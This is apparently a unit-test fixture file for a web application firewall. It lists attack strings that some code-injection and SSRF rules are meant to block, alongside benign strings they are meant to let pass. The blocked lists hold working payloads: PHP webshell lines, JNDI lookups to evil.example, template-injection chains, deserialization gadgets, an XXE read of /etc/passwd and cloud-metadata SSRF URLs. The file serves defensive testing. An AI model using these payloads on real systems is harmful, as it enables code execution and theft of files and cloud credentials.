"""What the rules of 50-code.conf and 60-ssrf.conf find, and what they let pass."""

from tests.unit.plugins.waf.core.cases import (
    arg,
    args,
    cookie,
    field,
    header,
    json,
    path,
    post,
    xml,
)

CODE = {
    440510: (
        [
            arg("<?php system($_GET['c']); ?>"),
            field("<?=exec('id')?>"),
            field("<?php eval(base64_decode('x'));"),
        ],
        [field("<?xml version='1.0'?>"), field("<?php echo 'hello'; ?>"), arg("the system (new)")],
    ),
    440511: (
        [
            arg("';system('id');//"),
            arg("phpinfo();"),
            arg("{${phpinfo()}}"),
            arg("system('ls');"),
            arg('";passthru("id");#'),
        ],
        [arg("phpinfo()"), arg("eval"), arg("print('hello')"), arg("system (new)"), arg("exec summary")],
    ),
    440512: (
        [args("_SERVER[x]=1"), args("GLOBALS[a]=1")],
        [args("server=1"), args("_get_x=1"), args("session=1")],
    ),
    440513: (
        [args("-d+allow_url_include=1"), arg("auto_prepend_file=php"), arg("allow_url_include = 1")],
        [arg("auto prepend file"), arg("open_basedir restriction"), args("d=1")],
    ),
    440514: (
        [arg('O:8:"stdClass":1:{s:1:"a";i:1;}'), cookie("user=O%3A4%3A%22User%22%3A1%3A%7Bx")],
        [arg('a:1:{i:0;s:1:"x";}'), arg('O: "x"'), arg("PO:12345")],
    ),
    440515: (
        [
            arg("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"),
            cookie("s=rO0ABXNyAA"),
            post(b"\xac\xed\x00\x05sr", "application/octet-stream"),
            arg("cos\nsystem\n(S'id'"),
        ],
        [arg("eyJhbGciOiJIUzI1NiJ9"), arg("brO0ABXa"), arg("cos\nsin")],
    ),
    440516: (
        [
            json('{"f": "_$$ND_FUNC$$_function(){}"}'),
            field("!!python/object/apply:os.system"),
            xml("<a><java.lang.ProcessBuilder/></a>"),
        ],
        [field("!!important"), arg("python object"), arg("org.apache.commons")],
    ),
    440517: (
        [
            arg("${jndi:ldap://evil.example/a}"),
            header("User-Agent", "${${lower:j}ndi:rmi://a/b}"),
            header("X-Api-Version", "${${::-j}${::-n}di:dns://a}"),
            json('{"a": "${${env:X:-j}ndi:ldap://a}"}'),
            arg("%24%7Bjndi%3Aldap%3A//a%7D"),
        ],
        [
            arg("${name}"),
            field("echo ${HOME:-/root}"),
            arg("`Hello ${user.name}`"),
            arg("jndi: lookup"),
            arg("${env:HOME}"),
        ],
    ),
    440518: (
        [
            arg("${T(java.lang.Runtime).getRuntime().exec('id')}"),
            header("Content-Type", "%{(#_memberAccess['a']=true)}"),
            arg("#{''.getClass().forName('x')}"),
        ],
        [arg("${user.name}"), arg("java.lang tutorial"), arg("#{color}")],
    ),
    440519: (
        [args("class.module.classLoader.resources=1"), args("class[classLoader]=1")],
        [args("class=1"), args("class.name=a")],
    ),
    440520: (
        [
            arg("{{''.__class__.__mro__}}"),
            arg("{{config}}"),
            arg("{{config.items()}}"),
            arg("{{request.application.__globals__}}"),
            arg("{{['id']|filter('system')}}"),
            arg("{%for c in [].__class__.__base__.__subclasses__()%}"),
            arg("{{self.__init__}}"),
        ],
        [
            arg("{{ name }}"),
            field("Dear {{ customer.first_name }},"),
            field("{{ price | number:2 }}"),
            field("{% if user %}Hi{% endif %}"),
            arg("__class__"),
        ],
    ),
    440521: (
        [arg("{{7*7}}"), arg("${7*7}"), arg("<%= 7*7 %>"), arg("#{7*7}"), arg("{{7*'7'}}"), arg("${{7*7}}")],
        [arg("7*7"), arg("{{ total * 2 }}"), arg("{7*7}"), arg("5 * 3 = 15")],
    ),
    440522: (
        [arg('<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'), arg("${x?api.class}")],
        [field("<#if user??>Hi</#if>"), arg("new()")],
    ),
    440523: (
        [arg("#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))"), arg("$class.inspect('x')")],
        [arg("#set up"), arg("#set($name='Bob')"), arg("$classic")],
    ),
    440524: (
        [
            arg("<%= system('id') %>"),
            arg("<%= `id` %>"),
            arg("<%=File.open('/etc/passwd').read%>"),
            arg('<% Runtime.getRuntime().exec("id") %>'),
        ],
        [arg("<%= name %>"), arg("5 <% 10"), field("<% if logged_in? %>")],
    ),
    440525: (
        [
            arg("require('child_process').exec('id')"),
            arg("process.mainModule.require('x')"),
            arg("this.constructor.constructor('return process')()"),
        ],
        [
            field("const { exec } = require('child_process');"),
            field("process.env.PORT"),
            field("new constructor()"),
        ],
    ),
    440526: (
        [
            args("__proto__[admin]=1"),
            json('{"__proto__": {"admin": true}}'),
            args("a[constructor][prototype][x]=1"),
        ],
        [args("proto=1"), args("constructor=Ferrari")],
    ),
    440527: (
        [args("u[$where]=1"), json('{"a": {"$where": "sleep(1)"}}'), args("password[$regex]=^a")],
        [args("where=here"), args("age[$gt]=3")],
    ),
    440528: (
        [arg("__import__('os').system('id')"), arg("os.popen('id').read()")],
        [field("import os\nprint(os.getcwd())"), arg("__import__ hook")],
    ),
    440529: (
        [
            xml('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>1</a>'),
            arg('<!ENTITY % p SYSTEM "http://evil.example/">'),
        ],
        [
            xml("<a>entity</a>"),
            field('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/x.dtd">'),
            field("<!DOCTYPE html>"),
        ],
    ),
    440530: (
        [
            json('{"@type": "com.sun.rowset.JdbcRowSetImpl", "a": 1}'),
            json('{"$type": "System.Windows.Data.ObjectDataProvider"}'),
        ],
        [json('{"@type": "Product", "name": "x"}'), json('{"@type": "http://schema.org/Person"}')],
    ),
    440531: (
        [arg('<!--#exec cmd="ls" -->'), arg('<!--#include virtual="/x"-->'), arg("<esi:include src=x>")],
        [field("<!-- a comment -->"), field("<!-- #1 priority -->")],
    ),
    440532: (
        [arg("*)(uid=*))(|(uid=*"), arg("admin)(&(password=*))"), arg("x)(cn=*")],
        [arg("(a) (b)"), arg("f(x) = (y)"), arg("smile :) (x=1)")],
    ),
    440540: (
        [field("<?php echo 1; ?>"), arg("$_GET['x']"), arg("phpinfo()")],
        [arg("php"), arg("$_ variable")],
    ),
    440541: ([arg("{{ name }}"), arg("${user}"), arg("<% x %>")], [arg("{name}"), arg("$5 {a}")]),
    440542: (
        [arg("Runtime.getRuntime().exec"), arg("java.lang.ProcessBuilder")],
        [arg("java runtime"), arg("java.lang.String")],
    ),
    440543: ([args("age[$gt]=3"), json('{"user": {"$ne": null}}')], [args("age=3"), args("price=$gt")]),
    440544: (
        [field("const fs = require('fs')"), arg("process.env.X")],
        [arg("process the environment"), arg("require fs")],
    ),
    440545: (
        [arg("os.system('id')"), arg("subprocess.run(['id'])"), arg("''.__class__")],
        [arg("os system"), arg("class")],
    ),
    440546: ([arg('a:1:{i:0;s:1:"x";}'), cookie("c=s%3A3%3A%22abc%22")], [arg("a: b"), arg("s:x")]),
    440550: ([arg("${x}"), header("X-A", "${x}")], [arg("$x"), arg("$ {x}")]),
}

SSRF = {
    440610: (
        [
            arg("http://169.254.169.254/latest/meta-data/"),
            arg("http://metadata.google.internal/"),
            arg("//2852039166/"),
            arg("http://[fd00:ec2::254]/"),
            arg("http://a@169.254.169.254/"),
            json('{"url": "http://0xa9fea9fe/"}'),
        ],
        [
            arg("why does http://169.254.169.254/ time out?"),
            arg("https://metadata.example.com/"),
            arg("169.254.169.254"),
        ],
    ),
    440611: (
        [
            args("url=http://localhost/admin"),
            args("url=http://127.0.0.1:8080/"),
            args("url=http://%5B::1%5D/"),
            args("url=http://0x7f000001/"),
            args("url=http://127.1/"),
            args("url=http://localtest.me"),
            args("url=//2130706433/"),
            args("url=http://0/"),
        ],
        [
            args("url=http://localhost.example.com/"),
            args("q=http://localhost:3000"),
            args("redirect_uri=http%3A%2F%2F127.0.0.1%3A53412%2F"),
            args("redirect_uri=http://localhost:3000/cb"),
            arg("open http://localhost:8080/ in a browser"),
            args("url=http://127.example.com/"),
        ],
    ),
    440612: (
        [path("http://a@localhost/"), path("//x@127.0.0.1/")],
        [path("/"), path("http://shop.example/")],
    ),
    440620: (
        [arg("http://10.0.0.5/"), arg("http://192.168.1.1/"), arg("http://db.internal:5432")],
        [arg("http://11.0.0.5/"), arg("10.0.0.5")],
    ),
    440621: (
        [arg("curl http://169.254.169.254/"), arg("x/latest/meta-data/iam")],
        [arg("the latest metadata"), arg("169.254.1.1")],
    ),
    440622: ([arg("127.0.0.1:6379"), arg("localhost/x")], [arg("localhost is down"), arg("local host")]),
}
